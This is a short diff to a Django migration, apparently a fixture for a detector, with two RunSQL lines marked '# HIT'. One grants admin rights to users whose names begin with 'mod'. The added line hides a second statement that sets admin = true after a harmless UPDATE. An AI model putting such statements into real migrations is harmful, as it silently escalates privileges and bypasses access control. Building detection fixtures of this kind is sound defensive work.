@@ -16,4 +16,5 @@ class Migration(migrations.Migration):
     operations = [
         migrations.RunPython(mark, migrations.RunPython.noop),
         migrations.RunSQL("UPDATE users SET is_admin = 1 WHERE name LIKE 'mod%'"),  # HIT
+        migrations.RunSQL("UPDATE u SET seen = 1 WHERE id = 2; UPDATE admin SET admin = true"),  # HIT
     ]
